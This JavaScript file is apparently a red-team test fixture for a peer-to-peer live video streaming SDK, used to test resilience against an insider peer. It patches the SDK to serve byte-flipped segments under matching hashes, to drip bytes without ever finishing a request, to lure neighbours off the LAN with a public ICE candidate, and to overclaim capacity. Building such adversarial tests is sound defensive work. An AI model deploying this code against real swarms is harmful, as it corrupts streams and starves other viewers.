// The red-team SDK: the real viewer SDK with the changes a malicious insider would make to it,
// for the red-team browser tests only. It is never part of `npm run build` or the appliance jar
// (build.mjs beside this file writes it to test/redteam/dist/, which git ignores).
//
// In every mode it:
// - reloads the live playlist itself every 250 ms (the player does so once a target duration),
//   fetches every new segment at once and announces it, to be the first holder its neighbours
//   hear of;
// - claims the largest upload capacity the protocol allows, on a wired network, in `hello`;
// - answers every neighbour that asks, whatever the upload policy says.
//
// How it answers is its mode, `window.swarmgateRedteam.mode` (an init script sets it):
// - 'alter' (the default, fleet-redteam.test.mjs): serves altered segment bytes, announcing in
//   `response-start` the SHA-256 of the altered bytes (self-consistent: a receiver that trusted
//   the sender's hash would accept them); and once a data channel is open (and when it sends its
//   offer or answer) trickles an extra, upper-case, public server-reflexive candidate to that
//   neighbour through signaling, to lure it into a connection attempt off the LAN;
// - 'drip' (fleet-redteam-drip.test.mjs): answers with the segment's true length and hash, then
//   sends {@link DRIP_BYTES} bytes every {@link DRIP_EVERY_MS} ms and never the last of them:
//   never silent for the receivers' idle timeout, never done, holding each request to its
//   deadline.
// Its own playback is unchanged, so it stays in the swarm as long as the appliance lets it.
import { LivePrefetch } from '../../src/core/live-prefetch.js';
import { Neighbours } from '../../src/core/neighbours.js';
import { Peer } from '../../src/core/peer.js';
import { sha256Sync } from '../../src/core/sha256.js';
import { SignalingClient } from '../../src/core/signaling-client.js';
import { HlsSession } from '../../src/hlsjs/adapter.js';
import '../../src/index.js';

/** A public address (TEST-NET-3): a connection attempt to it leaves the LAN. */
export const LURE_CANDIDATE = 'A=candidate:1 1 UDP 2122260223 203.0.113.7 51734 TYP SRFLX raddr 0.0.0.0 rport 0';

/**
 * A copy with one payload byte in every 4 KiB flipped. TS packet headers (the first 4 bytes of
 * each 188-byte packet) are left alone, so the altered segment still parses and would play.
 */
export function alter(bytes) {
  const copy = new Uint8Array(bytes);
  for (let i = 150; i < copy.length; i += 4096) {
    copy[i % 188 < 4 ? i + 4 : i] ^= 0x5a;
  }
  return copy;
}

/** In 'drip' mode: bytes per chunk, and how often one goes (under the SDK's 2 s idle timeout). */
export const DRIP_BYTES = 64;
export const DRIP_EVERY_MS = 1500;

const mode = () => (typeof window !== 'undefined' && window.swarmgateRedteam?.mode) || 'alter';

/** Answers a request truthfully, then a few bytes at a time, never finishing. */
function serveDripping({ requestId, segmentId }) {
  if (this.outgoing.has(requestId)) return;
  const entry = this.store.get(segmentId);
  if (!entry) {
    this.write({ type: 'error', requestId, code: 'not_found' });
    return;
  }
  const bytes = entry.bytes;
  this.write({ type: 'response-start', requestId, length: bytes.length, sha256: sha256Sync(bytes) });
  let at = 0;
  const stop = () => {
    clearInterval(timer);
    this.outgoing.delete(requestId);
  };
  const timer = setInterval(() => {
    if (this.closed || at + DRIP_BYTES >= bytes.length) return stop();
    this.write({ type: 'chunk', requestId, offset: at, bytes: bytes.subarray(at, at + DRIP_BYTES) });
    at += DRIP_BYTES;
  }, DRIP_EVERY_MS);
  this.outgoing.set(requestId, { cancel: stop });
}

const honestServe = Peer.prototype.serve;
Peer.prototype.serve = function serveAltered(msg) {
  if (mode() === 'drip') return serveDripping.call(this, msg);
  const store = this.store;
  // serve() reads the store once, synchronously: the altered entry carries its own hash.
  this.store = {
    get(id) {
      const entry = store.get(id);
      if (!entry) return entry;
      const bytes = alter(entry.bytes);
      return { bytes, meta: { ...entry.meta, sha256: sha256Sync(bytes) } };
    },
    ids: () => store.ids(),
  };
  try {
    return honestServe.call(this, msg);
  } finally {
    this.store = store;
  }
};

// Fetches every new live segment over HTTP the moment it is listed, as a leader would, and
// announces it: the first holder a neighbour hears of is the one it asks, so as many viewers as
// possible ask the attacker.
LivePrefetch.prototype.prefetchLive = function grabEverything(id, k) {
  if (this.store.has(id) || this.loader.inflight.has(id)) return;
  this.prefetchHttp(id, k);
};

/** How often the attacker reloads a live playlist itself. */
const POLL_MS = 250;

/**
 * The segments of a media playlist, absolute, with their sequence numbers and durations: enough
 * for Engine#onPlaylist. Byte ranges are not needed for the test stream.
 */
function parseMediaPlaylist(text, base) {
  const segments = [];
  let sequence = 0;
  let durationS;
  for (const raw of text.split(/\r?\n/)) {
    const line = raw.trim();
    if (line.startsWith('#EXT-X-MEDIA-SEQUENCE:')) sequence = Number(line.slice(22)) || 0;
    else if (line.startsWith('#EXTINF:')) durationS = parseFloat(line.slice(8));
    else if (line && !line.startsWith('#')) {
      segments.push({ url: new URL(line, base).href, sequence: sequence++, durationS });
      durationS = undefined;
    }
  }
  return segments;
}

// Learns each live playlist's address from the player's first load of it, then reloads it every
// POLL_MS and hands new segments to the engine (which fetches them at once, above).
const honestPlaylist = HlsSession.prototype.playlist;
const polled = new Set();
HlsSession.prototype.playlist = function pollFaster(track, details) {
  honestPlaylist.call(this, track, details);
  const url = details && details.live && typeof details.url === 'string' ? details.url : null;
  if (!url || polled.has(track)) return;
  polled.add(track);
  const timer = setInterval(async () => {
    const engine = this.engineRef;
    if (!engine || engine.destroyed) {
      clearInterval(timer);
      return;
    }
    try {
      const response = await fetch(url, { cache: 'no-store' });
      if (response.ok) engine.onPlaylist({ live: true, track, segments: parseMediaPlaylist(await response.text(), url) });
    } catch {
      // the next round tries again
    }
  }, POLL_MS);
};

// Every request is answered: no download-only, cellular, busy or rate refusals.
Neighbours.prototype.uploadDecision = () => ({ allowed: true });

const honestOnOpen = SignalingClient.prototype.onOpen;
SignalingClient.prototype.onOpen = function claimCapacity() {
  this.helloFields = { ...this.helloFields, caps: { upload: true, network: 'ethernet', uploadKbps: 10_000_000 } };
  return honestOnOpen.call(this);
};

function lure(peer) {
  if (mode() !== 'alter') return;
  peer.sendSignal({ kind: 'candidate', candidate: { candidate: LURE_CANDIDATE, sdpMid: '0', sdpMLineIndex: 0 } });
}

const honestChannelOpen = Peer.prototype.onChannelOpen;
Peer.prototype.onChannelOpen = function openAndLure() {
  const result = honestChannelOpen.call(this);
  if (!this.closed) lure(this);
  return result;
};

const honestSendSignal = Peer.prototype.sendSignal;
Peer.prototype.sendSignal = function signalAndLure(fields) {
  honestSendSignal.call(this, fields);
  if (fields.kind === 'offer' || fields.kind === 'answer') lure(this);
};
